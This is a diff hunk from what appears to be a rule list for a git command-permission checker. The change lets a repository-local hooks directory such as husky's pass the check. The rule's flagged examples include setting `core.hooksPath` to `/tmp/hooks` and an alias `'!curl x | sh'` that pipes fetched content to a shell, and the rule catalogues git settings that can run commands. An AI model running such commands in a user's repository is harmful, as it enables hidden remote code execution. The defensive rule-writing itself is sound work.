@@ -59,7 +59,8 @@ RULES = (
        "Asks before `git config` sets `core.hooksPath`, `core.fsmonitor`, `core.sshCommand`, `core.pager`, `core.editor`, "
        "`core.askPass`, `diff.external`, `filter.*.clean/smudge/process`, `merge.*.driver`, `credential.helper` (other than "
        "git's own helpers), `include.path`/`includeIf.*.path`, `gpg.program`, `alias.*` starting with `!`, and before "
-       "`git -c` / `git clone -c` one-shot settings of these whose value is a shell command, or `git push --receive-pack`.",
+       "`git -c` / `git clone -c` one-shot settings of these whose value is a shell command, or `git push --receive-pack`. "
+       "A hooks directory inside the repository (`git config core.hooksPath .husky`, what `husky init` sets) passes.",
        "Every later git command, by the user or a tool, runs it without asking.",
        "git config core.hooksPath /tmp/hooks\ngit config alias.st '!curl x | sh'", "git config alias.st status"),
     rule("REP007", "git-remote-redirect", ASK, "Pointing a remote at another address",
